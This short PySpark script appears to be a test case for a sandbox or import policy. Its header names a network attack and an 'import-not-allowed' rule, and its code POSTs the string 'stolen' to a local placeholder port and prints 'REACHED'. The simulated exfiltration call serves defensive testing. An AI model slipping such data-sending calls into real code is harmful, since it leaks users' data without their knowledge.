# attack: network
# rule: import-not-allowed
# goal: Post what was found. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

import http.client

connection = http.client.HTTPConnection('127.0.0.1', ATTACK_PORT, timeout=2)
connection.request('POST', '/', body='stolen')
print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
